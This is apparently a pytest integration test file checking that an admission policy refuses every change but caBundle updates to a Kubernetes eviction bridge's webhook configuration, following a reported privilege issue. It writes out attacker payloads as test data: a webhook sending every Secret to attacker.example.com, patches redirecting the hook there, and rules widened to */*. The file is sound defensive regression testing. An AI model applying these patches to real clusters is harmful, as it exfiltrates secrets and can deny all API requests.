"""The controllers' account and the eviction bridge's ValidatingWebhookConfiguration on the real
control plane (packaging/kubernetes/eviction-bridge: rbac.yaml grants the patch, the admission
policy of webhook-configuration-policy.yaml keeps it to the caBundles). Issue 34: with a
controllers token, a JSON patch adding a webhook on Secrets that calls another URL was accepted,
and so was a dry run widening the rules to */* with failurePolicy Fail. With either token of the
account (bound to a pod, as the Deployment's; bound to nothing) every change but a caBundle's is
refused, and the bridge's own certificate code still puts its CA in place."""

from __future__ import annotations

import asyncio
import base64
import copy
from collections.abc import AsyncIterator, Awaitable, Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
import yaml
from kubernetes import client as k8s

from nodeagent.bridge.certs import CA_CRT, encode_secret
from nodeagent.bridge.certstore import (
    WEBHOOK_CONFIGURATION,
    TLSPlace,
    ensure_bundle,
    put_ca_bundle,
)
from nodeagent.kube.client import KubeClient
from nodeagent.kube.errors import Forbidden
from nodeagent.kube.resources import WEBHOOK_CONFIGURATIONS
from nodeagent_testbed.controlplane.kubeapi import api_client, create_from_dict
from tests.clusters import (
    CONTROLLERS_ACCOUNT,
    NAMESPACE,
    PACKAGING_RBAC,
    TestCluster,
    apply_files,
    until_policy_refuses,
)
from tests.integration.bridge.realbridge import BRIDGE_DIR

pytestmark = pytest.mark.backends("real")

Obj = dict[str, Any]
POLICY = "nodeagent-webhook-configuration-restriction"
SHIPPED = [d for d in yaml.safe_load_all((BRIDGE_DIR / "webhook.yaml").read_text()) if d]
JSON_PATCH = "application/json-patch+json"
# the attacker's webhook: every Secret written in the cluster, sent to a URL of theirs
SECRETS_HOOK = {
    "name": "secrets.example.com",
    "admissionReviewVersions": ["v1"],
    "sideEffects": "None",
    "failurePolicy": "Ignore",
    "clientConfig": {"url": "https://attacker.example.com/review"},
    "rules": [
        {
            "apiGroups": [""],
            "apiVersions": ["v1"],
            "operations": ["CREATE", "UPDATE"],
            "resources": ["secrets"],
        }
    ],
}
EVERYTHING = [{"apiGroups": ["*"], "apiVersions": ["*"], "operations": ["*"], "resources": ["*/*"]}]
OWNER = {"apiVersion": "v1", "kind": "Namespace", "name": "default", "uid": "0" * 8}
HOOK = "/webhooks/0"
# every field of a v1 ValidatingWebhook, and of the object's metadata, the policy keeps: one
# JSON patch each
CHANGES: dict[str, list[Obj]] = {
    "another webhook": [{"op": "add", "path": "/webhooks/-", "value": SECRETS_HOOK}],
    "webhook removed": [{"op": "remove", "path": HOOK}],
    "name": [{"op": "replace", "path": f"{HOOK}/name", "value": "other.nodeagent.io"}],
    "url": [
        {"op": "remove", "path": f"{HOOK}/clientConfig/service"},
        {"op": "add", "path": f"{HOOK}/clientConfig/url", "value": "https://attacker.example.com"},
    ],
    "service": [
        {"op": "replace", "path": f"{HOOK}/clientConfig/service/name", "value": "attacker"}
    ],
    "service path": [
        {"op": "replace", "path": f"{HOOK}/clientConfig/service/path", "value": "/allow"}
    ],
    "rules": [{"op": "replace", "path": f"{HOOK}/rules", "value": EVERYTHING}],
    "failurePolicy": [{"op": "replace", "path": f"{HOOK}/failurePolicy", "value": "Fail"}],
    "matchPolicy": [{"op": "replace", "path": f"{HOOK}/matchPolicy", "value": "Exact"}],
    "namespaceSelector": [{"op": "replace", "path": f"{HOOK}/namespaceSelector", "value": {}}],
    "objectSelector": [
        {"op": "add", "path": f"{HOOK}/objectSelector", "value": {"matchLabels": {"a": "b"}}}
    ],
    "sideEffects": [{"op": "replace", "path": f"{HOOK}/sideEffects", "value": "None"}],
    "timeoutSeconds": [{"op": "replace", "path": f"{HOOK}/timeoutSeconds", "value": 30}],
    "admissionReviewVersions": [
        {"op": "replace", "path": f"{HOOK}/admissionReviewVersions", "value": ["v1beta1"]}
    ],
    "matchConditions": [
        {
            "op": "add",
            "path": f"{HOOK}/matchConditions",
            "value": [{"name": "never", "expression": "false"}],
        }
    ],
    "labels": [{"op": "add", "path": "/metadata/labels/example.com~1x", "value": "y"}],
    "annotations": [{"op": "add", "path": "/metadata/annotations", "value": {"a": "b"}}],
    "ownerReferences": [{"op": "add", "path": "/metadata/ownerReferences", "value": [OWNER]}],
    "finalizers": [{"op": "add", "path": "/metadata/finalizers", "value": ["example.com/keep"]}],
}


@dataclass
class Env:
    backend: TestCluster
    admin: KubeClient
    # kubeconfigs of the controllers' account: a token bound to a pod on node-3 (the
    # Deployment's), one bound to nothing (a .deb agent running the controllers)
    controllers: dict[str, Path]


async def controllers_env(backend: TestCluster, also_roles: tuple[str, ...] = ()) -> Env:
    """The base's and the bridge's RBAC and policies, the shipped webhook configuration, and
    the controllers' tokens, once the policy is in force."""
    files = [BRIDGE_DIR / "rbac.yaml", BRIDGE_DIR / "webhook-configuration-policy.yaml"]
    await asyncio.to_thread(apply_files, backend.kubeconfig, [*PACKAGING_RBAC, *files])
    bound = await backend.service_account(CONTROLLERS_ACCOUNT, node="node-3", also_roles=also_roles)
    unbound = await backend.service_account(CONTROLLERS_ACCOUNT)
    admin = backend.client()
    for doc in SHIPPED:
        await admin.create(WEBHOOK_CONFIGURATIONS, copy.deepcopy(doc))
    await asyncio.to_thread(
        until_policy_refuses,
        bound,
        POLICY,
        lambda api: dry_run_patch(api, CHANGES["timeoutSeconds"]),
        30,
    )
    return Env(backend, admin, {"bound to a pod": bound, "bound to nothing": unbound})


@pytest.fixture
async def env(backend: TestCluster) -> AsyncIterator[Env]:
    yield await controllers_env(backend)


def dry_run_patch(api: k8s.ApiClient, ops: list[Obj], name: str = WEBHOOK_CONFIGURATION) -> None:
    k8s.AdmissionregistrationV1Api(api).patch_validating_webhook_configuration(
        name, ops, dry_run="All", _content_type=JSON_PATCH
    )


def refused_dry_run(kubeconfig: Path, ops: list[Obj]) -> str:
    """The policy's message refusing the JSON patch (dry run) to the bridge's configuration."""
    with api_client(kubeconfig) as api, pytest.raises(k8s.ApiException) as e:
        dry_run_patch(api, ops)
    body = str(e.value.body)
    # one of its validations, not an expression that failed to evaluate
    assert e.value.status == 403 and POLICY in body and "the controllers may change" in body, body
    return body


async def test_the_controllers_may_not_rewrite_the_bridges_webhook_configuration(
    env: Env,
) -> None:
    stored = await env.admin.get(WEBHOOK_CONFIGURATIONS, WEBHOOK_CONFIGURATION)
    for who, kubeconfig in env.controllers.items():
        controllers = env.backend.client(kubeconfig)
        # the attack, as it was made: refused
        with pytest.raises(Forbidden) as refused:
            await controllers.patch(
                WEBHOOK_CONFIGURATIONS,
                WEBHOOK_CONFIGURATION,
                CHANGES["another webhook"],
                patch_type="json",
            )
        assert POLICY in str(refused.value), (who, refused.value)
        # the dry run: every request to every resource, denied while the bridge is away
        widen = [*CHANGES["rules"], *CHANGES["failurePolicy"]]
        assert "only webhooks[*].clientConfig.caBundle" in await asyncio.to_thread(
            refused_dry_run, kubeconfig, widen
        )
        for what, ops in CHANGES.items():
            try:
                await asyncio.to_thread(refused_dry_run, kubeconfig, ops)
            except AssertionError as e:
                raise AssertionError(f"{who}: {what}") from e
    # nothing changed
    after = await env.admin.get(WEBHOOK_CONFIGURATIONS, WEBHOOK_CONFIGURATION)
    assert after["metadata"]["resourceVersion"] == stored["metadata"]["resourceVersion"]


async def test_the_controllers_keep_the_bridges_ca_bundle(env: Env) -> None:
    """What the bridge does (certstore.ensure_bundle, then put_ca_bundle, a merge patch of the
    whole webhooks list) with the Deployment's token, and a JSON patch of a caBundle alone
    with the other: both accepted."""
    controllers = env.backend.client(env.controllers["bound to a pod"])
    place = TLSPlace.shipped(NAMESPACE)
    bundle = await ensure_bundle(controllers, place)
    await put_ca_bundle(controllers, place, bundle)
    ca = encode_secret(bundle)[CA_CRT]
    got = await env.admin.get(WEBHOOK_CONFIGURATIONS, WEBHOOK_CONFIGURATION)
    assert [w["clientConfig"].get("caBundle") for w in got["webhooks"]] == [ca, ca]

    unbound = env.backend.client(env.controllers["bound to nothing"])
    other = base64.b64encode(b"another CA").decode()
    path = f"{HOOK}/clientConfig/caBundle"
    await unbound.patch(
        WEBHOOK_CONFIGURATIONS,
        WEBHOOK_CONFIGURATION,
        [{"op": "replace", "path": path, "value": other}],
        patch_type="json",
    )
    got = await env.admin.get(WEBHOOK_CONFIGURATIONS, WEBHOOK_CONFIGURATION)
    assert [w["clientConfig"].get("caBundle") for w in got["webhooks"]] == [other, ca]


async def test_a_wider_role_still_creates_deletes_and_changes_no_webhook_configuration(
    backend: TestCluster,
) -> None:
    """Should a role granting every write on webhook configurations be bound to the
    controllers' account by mistake, the policy still refuses them all but the caBundles."""
    role: Obj = {
        "apiVersion": "rbac.authorization.k8s.io/v1",
        "kind": "ClusterRole",
        "metadata": {"name": "test-webhook-configurations"},
        "rules": [
            {
                "apiGroups": ["admissionregistration.k8s.io"],
                "resources": ["validatingwebhookconfigurations", "mutatingwebhookconfigurations"],
                "verbs": ["create", "update", "patch", "delete"],
            }
        ],
    }
    with api_client(backend.kubeconfig) as api:
        create_from_dict(api, role)
    env = await controllers_env(backend, also_roles=(role["metadata"]["name"],))
    other = {
        "apiVersion": "admissionregistration.k8s.io/v1",
        "kind": "ValidatingWebhookConfiguration",
        "metadata": {"name": "someone-elses"},
        "webhooks": [SECRETS_HOOK],
    }
    await env.admin.create(WEBHOOK_CONFIGURATIONS, copy.deepcopy(other))
    wider = env.backend.client(env.controllers["bound to a pod"])
    attempts: dict[str, Callable[[], Awaitable[object]]] = {
        "create": lambda: wider.create(
            WEBHOOK_CONFIGURATIONS, {**other, "metadata": {"name": "mine"}}
        ),
        "delete the bridge's": lambda: wider.delete(WEBHOOK_CONFIGURATIONS, WEBHOOK_CONFIGURATION),
        "delete another": lambda: wider.delete(WEBHOOK_CONFIGURATIONS, "someone-elses"),
        "change another's caBundle": lambda: wider.patch(
            WEBHOOK_CONFIGURATIONS,
            "someone-elses",
            [{"op": "add", "path": f"{HOOK}/clientConfig/caBundle", "value": "Y2E="}],
            patch_type="json",
        ),
    }
    for what, attempt in attempts.items():
        with pytest.raises(Forbidden) as refused:
            await attempt()
        assert POLICY in str(refused.value), (what, refused.value)
    assert await env.admin.get(WEBHOOK_CONFIGURATIONS, WEBHOOK_CONFIGURATION)
    assert await env.admin.get(WEBHOOK_CONFIGURATIONS, "someone-elses")
